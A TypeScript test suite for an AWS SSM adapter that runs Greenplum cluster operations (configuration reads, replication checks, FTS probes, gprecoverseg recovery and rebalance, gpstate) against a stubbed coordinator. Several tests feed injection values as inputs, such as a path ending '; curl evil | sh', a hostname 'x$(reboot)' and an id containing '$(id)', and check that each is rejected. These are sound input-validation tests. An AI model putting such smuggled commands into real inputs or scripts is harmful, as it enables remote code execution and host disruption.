import {
  GetCommandInvocationCommand,
  SendCommandCommand,
  SSMClient,
  type SendCommandCommandInput,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import 'aws-sdk-client-mock-vitest/extend';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ValidationError } from '#domain/errors.ts';
import type { PlanItem } from '#domain/events.ts';
import {
  coordinatorCommand,
  DEFAULT_ENVIRONMENT,
  readConfigurationScript,
} from '#cluster/greenplum/commands.ts';
import {
  MalformedOutput,
  RecoveryPlanRejected,
  SsmCommandFailed,
} from '#cluster/greenplum/errors.ts';
import { SsmClusterOperations } from '#cluster/ssm/ssm-cluster-operations.ts';
import {
  CoordinatorStub,
  readFixture,
  SEED_HOST_DOWN_ROWS,
  type RunResult,
} from '../greenplum/coordinator-stub.ts';

/**
 * SSM is mocked; what it "runs" is executed on the stub coordinator, so these tests check the
 * exact command text sent and that it does what the adapter expects on a (fake) Greenplum host.
 */
const ssmMock = mockClient(SSMClient);
let stub: CoordinatorStub;
let sent: string[];

function ssmRunsOnStub() {
  const runs = new Map<string, Promise<RunResult>>();
  ssmMock.on(SendCommandCommand).callsFake(async (input: SendCommandCommandInput) => {
    const commandId = `cmd-${runs.size + 1}`;
    const text = input.Parameters!.commands![0]!;
    sent.push(text);
    runs.set(commandId, stub.run(text));
    return { Command: { CommandId: commandId } };
  });
  ssmMock
    .on(GetCommandInvocationCommand)
    .callsFake(async ({ CommandId }: { CommandId: string }) => {
      const result = await runs.get(CommandId)!;
      return result.code === 0
        ? { Status: 'Success', ResponseCode: 0, StandardOutputContent: result.stdout }
        : { Status: 'Failed', ResponseCode: result.code, StandardErrorContent: result.stderr };
    });
}

const operations = () =>
  new SsmClusterOperations({
    ssm: new SSMClient({ region: 'eu-west-1' }),
    instanceId: 'i-0123456789abcdef0',
    gphome: stub.gphome,
    coordinatorDataDirectory: stub.coordinatorDataDirectory,
    pollIntervalMs: 1,
    sleep: async () => {},
  });

beforeEach(async () => {
  ssmMock.reset();
  sent = [];
  stub = await CoordinatorStub.create();
  await stub.answerSql('segments', `${SEED_HOST_DOWN_ROWS}\n`);
  ssmRunsOnStub();
});
afterEach(() => stub.dispose());

describe('SsmClusterOperations', () => {
  it('sends exactly the read-configuration script to the coordinator instance', async () => {
    await operations().readConfiguration();
    expect(ssmMock).toHaveReceivedCommandWith(SendCommandCommand, {
      InstanceIds: ['i-0123456789abcdef0'],
      DocumentName: 'AWS-RunShellScript',
      Parameters: {
        commands: [
          coordinatorCommand(
            { gphome: stub.gphome, coordinatorDataDirectory: stub.coordinatorDataDirectory },
            readConfigurationScript(86_400),
          ),
        ],
        executionTimeout: ['120'],
      },
    });
  });

  it('defaults to the seed paths', () => {
    const ops = new SsmClusterOperations({
      ssm: new SSMClient({ region: 'eu-west-1' }),
      instanceId: 'i-1',
    });
    expect(ops).toBeInstanceOf(SsmClusterOperations);
    expect(DEFAULT_ENVIRONMENT).toEqual({
      gphome: '/usr/lib/gpdb',
      coordinatorDataDirectory: '/data1/master/gpseg-1',
    });
  });

  it('refuses hostile paths at construction', () => {
    expect(
      () =>
        new SsmClusterOperations({
          ssm: new SSMClient({ region: 'eu-west-1' }),
          instanceId: 'i-1',
          gphome: '/usr/lib/gpdb; curl evil | sh',
        }),
    ).toThrow(ValidationError);
  });

  it('reads the configuration and the contents FTS found double faulted', async () => {
    await stub.answerSql('double_faults', '1\n');
    const observation = await operations().readConfiguration();
    expect(observation.segments).toHaveLength(10);
    expect(observation.segments.find((row) => row.dbid === 4)).toMatchObject({
      role: 'm',
      preferred_role: 'p',
      status: 'd',
    });
    expect(observation.doubleFaults).toEqual([{ content: 1, primaryDbid: 3, mirrorDbid: 7 }]);
  });

  it('reads replication with the Greenplum 7 functions', async () => {
    await stub.answerSql('replication', '0|gp_walreceiver|catchup|async|none\n');
    await stub.answerSql('version', '120012\n');
    await stub.answerSql('wal_lag_7', '0|gp_walreceiver|1048576|0\n');
    const states = await operations().readReplication();
    expect(states[0]).toEqual({
      content: 0,
      primaryDbid: 2,
      state: 'catchup',
      syncState: 'async',
      syncError: 'none',
      walRemainingBytes: 1048576,
      replayLagBytes: 0,
    });
    expect(states.slice(1).every((s) => s.state === undefined)).toBe(true);
    const sql = await stub.sqlCalls();
    expect(
      sql.some((q) => q.includes('pg_wal_lsn_diff(pg_current_wal_flush_lsn(), sent_lsn)')),
    ).toBe(true);
    expect(sql.some((q) => q.includes('pg_xlog_location_diff'))).toBe(false);
  });

  it('reads replication with the Greenplum 6 functions', async () => {
    await stub.answerSql('replication', '0|gp_walreceiver|streaming|sync|none\n');
    await stub.answerSql('version', '90426\n');
    await stub.answerSql('wal_lag_6', '0|gp_walreceiver|0|0\n');
    const states = await operations().readReplication();
    expect(states[0]).toMatchObject({ state: 'streaming', walRemainingBytes: 0 });
    expect(
      (await stub.sqlCalls()).some((q) =>
        q.includes('pg_xlog_location_diff(pg_current_xlog_location(), sent_location)'),
      ),
    ).toBe(true);
  });

  it('leaves byte counts unknown when the dispatched lag query fails', async () => {
    await stub.answerSql('replication', '0|gp_walreceiver|streaming|sync|none\n');
    await stub.answerSql('version', '120012\n');
    await stub.failSql('wal_lag_7', 'ERROR:  failed to acquire resources on one or more segments');
    const states = await operations().readReplication();
    expect(states[0]).toMatchObject({ state: 'streaming', walRemainingBytes: undefined });
  });

  it('requests an FTS probe', async () => {
    await stub.answerSql('probe', 't\n');
    await operations().requestFtsProbe();
    expect(await stub.sqlCalls()).toEqual(['SELECT gp_request_fts_probe_scan()']);
  });

  it('refuses an FTS probe answer that is not t', async () => {
    await stub.answerSql('probe', 'f\n');
    await expect(operations().requestFtsProbe()).rejects.toThrow(MalformedOutput);
  });

  it('reports a failing psql as SsmCommandFailed with its error', async () => {
    await stub.failSql(
      'probe',
      'ERROR:  gp_request_fts_probe_scan() can only be run on coordinator',
    );
    const error = await operations()
      .requestFtsProbe()
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SsmCommandFailed);
    expect((error as Error).message).toContain('can only be run on coordinator');
  });

  const seedPlan: PlanItem[] = [
    { dbid: 6, content: 0, sourceDbid: 2, type: 'incremental' },
    { dbid: 7, content: 1, sourceDbid: 3, type: 'incremental' },
    { dbid: 4, content: 2, sourceDbid: 8, type: 'incremental' },
    { dbid: 5, content: 3, sourceDbid: 9, type: 'incremental' },
  ];

  it('starts a recovery once per operation key and polls it to the end', async () => {
    await stub.gprecovesegRun(1, await readFixture('gprecoverseg-incremental-success.log'), 0);
    const ops = operations();
    const handle = await ops.startRecovery(seedPlan, 'incident-1/Recover');
    expect(handle.kind).toBe('recovery');
    expect(handle.operationId).toMatch(/^recovery-incident-1_Recover-[0-9a-f]{12}$/);
    await stub.waitForExit(handle.operationId);
    expect(await ops.startRecovery(seedPlan, 'incident-1/Recover')).toEqual(handle);
    expect(await stub.calls('gprecoverseg')).toHaveLength(1);
    const status = await ops.pollOperation(handle);
    expect(status).toMatchObject({ done: true, recovered: [4, 5, 6, 7], failures: [] });
  });

  it('rejects a plan that does not match the catalog before starting anything', async () => {
    await expect(
      operations().startRecovery(
        [{ dbid: 6, content: 3, sourceDbid: 2, type: 'incremental' }],
        'k',
      ),
    ).rejects.toThrow(RecoveryPlanRejected);
    expect(await stub.calls('gprecoverseg')).toEqual([]);
    expect(sent).toHaveLength(1);
  });

  it('refuses hostile plan values without sending them anywhere', async () => {
    const hostile = {
      dbid: 6,
      content: 0,
      sourceDbid: 2,
      type: 'full',
      target: { hostname: 'x$(reboot)', address: 'x', port: 1, datadir: '/d' },
    } as PlanItem;
    await expect(operations().startRecovery([hostile], 'k')).rejects.toThrow(ValidationError);
    expect(sent.some((text) => text.includes('reboot'))).toBe(false);
  });

  it('starts a rebalance and reports the pair it skipped', async () => {
    await stub.answerSql(
      'plan',
      '8|2|incremental|segment-1|10500\n9|3|incremental|segment-1|10501\n',
    );
    await stub.gprecovesegRun(1, await readFixture('gprecoverseg-rebalance-skip.log'), 0);
    const ops = operations();
    const handle = await ops.startRebalance({ replayLagGb: 10 }, 'incident-1/Rebalance');
    await stub.waitForExit(handle.operationId);
    expect(await stub.calls('gprecoverseg')).toEqual(['-a -r --replay-lag 10']);
    expect(await ops.pollOperation(handle)).toMatchObject({
      kind: 'rebalance',
      done: true,
      recovered: [9],
      skipped: [{ content: 2, reason: 'one is either down, unreachable, or not synchronized' }],
    });
  });

  it('refuses to poll a handle it did not make', async () => {
    await expect(
      operations().pollOperation({ operationId: 'recovery-$(id)-0123456789ab', kind: 'recovery' }),
    ).rejects.toThrow(ValidationError);
    expect(sent).toEqual([]);
  });

  it('reads gpstate -m and -e', async () => {
    await stub.gpstateAnswer('-m', await readFixture('gpstate-m-host-down.txt'));
    await stub.gpstateAnswer('-e', await readFixture('gpstate-e-normal.txt'));
    const ops = operations();
    expect((await ops.gpstateMirrors()).mirrors.map((m) => m.status)).toEqual([
      'Failed',
      'Failed',
      'Acting as Primary',
      'Acting as Primary',
    ]);
    expect((await ops.gpstateErrors()).allNormal).toBe(true);
    expect(await stub.calls('gpstate')).toEqual(['-m', '-e']);
  });
});
